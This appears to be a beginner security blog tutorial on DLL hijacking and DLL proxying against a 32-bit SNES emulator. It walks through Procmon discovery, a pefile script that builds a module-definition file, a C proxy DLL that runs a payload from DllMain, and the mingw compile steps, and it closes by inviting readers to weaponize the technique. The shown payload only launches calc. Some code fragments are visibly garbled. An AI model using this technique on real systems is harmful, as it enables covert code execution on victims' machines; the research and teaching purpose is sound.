DLL Hijacking & DLL Proxying An SNES Emulator

Time: 30 mins

Difficulty: Beginner

Skills: Custom Exploit Development, DLL Hijacking

30 minute exploit dev post. Let’s get it.

I fell down another security research rabbit hole and when I snapped out of it, I found myself….

…playing Chrono Trigger? Wait, what?

That program in the picture is an SNES Emulator and, if you’re like me, you might have spent a good deal of time in your childhood/barracks dwelling days using one. I won’t link to where you can find these things because technically they violate copyright or DMCA or whatever, but they aren’t hard to find.

And we can chalk up my usage in this example to securityresearch so HAH. (plz be cool nintendo)

I hauled out my old external hard drive and found my zipped up copy of the SNES9x emulator, booted it up, and found a DLL Hijacking vulnerability that was calling to me to exploit it.

DLL Hijacking Overview

A crash-course on DLL Hijacking:

Programs that are written in x86 and x64 architecture make use of Dynamic-linked Libraries (DLLs) to offer flexibility and portability during software development. DLLs are basically tiny programs that containreusable code, resources, and variables. By their nature, they do not have an Entry Point and require a parent executable to invoke them at runtime. If you just have a DLL by itself, you can use something like Rundll32.exe to run the contents of that specific DLL without needing a parent program. Otherwise, functions within your DLL can be called by the parent executable using the LoadLibrary API call to import them into the program dynamically.

Now, sometimes software development doesn’t go quite according to plan. And every now and then, you might write a program that calls to load a DLL which doesn’t exist. Or, in the case of the SNES emulator, you might suffer from what amounts to a pathing vulnerability, which basically means that the program attempts to load in the DLL from the current working directory, then looks elsewhere.

Such was the case when I loaded up Procmon and ran the SNES emulator:

In the picture above, the SNES emulator has been placed on the Desktop of myFlareVM host. When the program attempts to load in opengl32.dll, it first checks the current working directory of C:\Users\Husky\Desktop\SNES32bit\. And when it fails to find the specified DLL here, it goes to the SysWOW64 directory and loads in the one that exists there successfully. This SNES emulator is a 32 bit application, so it makes sense that it would check the SysWOW64 for its required DLLs.

Remember, System32 and SysWOW64 have kind of an Iceland/Greenland situation going on. On a standard x64 machine, your 64-bit system directory is System32, and your 32-bit system directory is SysWOW64. Great work with that one, Microsoft.

Anyway, this presents a vulnerability. The program isattempting to load in a DLL from a directory that we can write into. This is because this program has been copied to the Desktop and not installed in a standard program directory, like Program Files.

It’s not hard to imagine a scenario in which this piece of software is shared around and lots of people are simply, oh I don’t know, sharing it off of a hard drive and just copying the files to their own laptops at the barracks.

Also, making a note here, the SNES emulator has DEP but no ASLR… might come back to that at some point in the future

Now in some courses, DLL hijacking is taught by way of the following:

“Just make an MSFVenom DLL payload and swap it out for theone that the program is trying to load 4head.”

And that works. Until the program crashes or fails to load in the first place:

DOS is not in scope, folks. I think we can do better than this. Enter, DLL Proxying.

DLL Proxying

DLL Proxying is DLL Hijacking’s cooler, more successful big brother.

Consider the following:

You might be able to get shellcode execution from a DLL hijack, but the program still needs to resolve the function calls that it wanted to make from the original DLL. And your MSFVenom generated DLL does not know what to do with those requested functions, so calc.exe runs and the program crashes.

Compare this to:

In DLL Proxying, you craft a new DLL that contains pointers to the original DLL’s imported functions. You sneak your payload into one of the sections of this DLL and use the remaining space to point the executable towards the originalDLL that it wants to load.

The program executes with its original intended functionality and you get payload execution.

How it do?

The Method

Using Procmon, filter for the following:

Open an executable or 10 and identify a program that attempts to load in a DLL and does not succeed. In my example, I focused on OpenGL32.dll:

Reconfigure your filters to see if this DLL is loaded in successfully at any point in the program’s execution. So broaden your search criteria by just filtering on:

If you’ve found a good DLL candidate for proxying, you might see something like this:It’s on. Copy the successfully loaded DLL from the host to your attacker machine and name it [dllName]_original.dll. You might even get lucky and this DLL might be native on all Windows systems, so you might not even need to copy it from the target host, just copy it from your own Windows host.

On your attacker machine, use this simple Python script to pull out the exported functions from the original DLL and write them to a Module-Definition file (.def):

import pefile

dll = pefile.PE('[dllName]_orig.dll')

for export in dll.DIRECTORY_ENTRY_EXPORT.symbols:
        print('{}=[dllName]_orig.{} @{}'.format(,, export.ordinal))

Note the two locations where the original DLL is referenced and make sure to change those values accordingly.

$ python3 > [dllName].def

The Module-Definition file givesinformation to the compiler about linked exports when a program is compiled. In this case, we’ll tell the compiler to make our proxy DLL and link it to the original DLL to point at all of its exported functions.

└─$ cat opengl32.def
GlmfBeginGlsBlock=opengl32_orig.GlmfBeginGlsBlock @1
GlmfCloseMetaFile=opengl32_orig.GlmfCloseMetaFile @2
GlmfEndGlsBlock=opengl32_orig.GlmfEndGlsBlock @3
GlmfEndPlayback=opengl32_orig.GlmfEndPlayback @4
GlmfInitPlayback=opengl32_orig.GlmfInitPlayback @5
GlmfPlayGlsRecord=opengl32_orig.GlmfPlayGlsRecord @6
glAccum=opengl32_orig.glAccum @7

So basically, every time the executable asks “Hey DLL, where is [function]?” the proxy DLL answers “Oh yeah go check out [dllName]_original.dll and it should be there.”

Sneaky sneaky.

Now, we craft our proxy DLL. This is a very simple program written in C that exports a DLLMain function to act as the DLL’s entry point. In the DLLMain method, we sneak a call to the Payload function. That function executes and then all other requested function calls are passed to [dllName]_original.dll:

Create this C file and call it [dllName].c:

#include <processthreadsapi.h>
#include <memoryapi.h>

void Payload()
  char cmd[] = "calc.exe";
  ZeroMemory(&si, sizeof(si));
  si.cb = sizeof(si);
  ZeroMemory(&pi, sizeof(pi));

  CreateProcess(NULL, cmd, NULL, NULL, FALSE, 0, NULL, NULL,&si, &pi);

BOOL WINAPI DllMain(HINSTANCE hinstDLL, DWORD fdwReason, LPVOID lpReserved)
  switch (fdwReason)
  return TRUE;

So far, so good.

Finally, we need to create this proxy DLL and link it with our Module-Definition file. This can be accomplished with mingw-w64, which has the requisitetoolchain needed to compile our DLL. Mind your architecture here: I’m proxying the 32 bit SNES emulator, so I need to compile this for a 32 bit architecture.

If you don’t have mingw-w64 on your attack machine, simply enter:

$ sudo apt-get install mingw-w64 -y

Then, to compile our DLL:

$ i686-w64-mingw32-gcc -shared -o [dllName].dll [dllName].c [dllName].def -s

When the DLL compiles, you now should have four files to work with:

  • [dllName]_original.dll: the original DLL we pulled off the host, renamed to “_original”
  • [dllName].c: the C code for our proxy DLL that contains our payload.
  • [dllName].def: the Module-definition file that was created by using the Python script to pull out the exported function calls from the original dll.
  • [dllName].dll: the newly compiled proxy DLL.

The final step is to land the original DLL and the proxy DLL on the target host in the directory of the program. The two DLLs must be in the same directory as each other and the original program.

Once you’ve landed the two DLLs, fire up the program!

Congratulations, you have a fully functioning program loading in your proxy DLL. No crashes, no segfaults, just calc.And speaking of calc, I’ll leave it as an exercise to the reader on how to more effectivelyweaponize this. But if you read the proxy DLL code carefully, it shouldn’t be too hard.Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Facebook photoYou are commenting using your Facebook account. Log Out /  Change )Connecting to %s

This site uses Akismet toreduce spam. Learn howyour comment data is processed.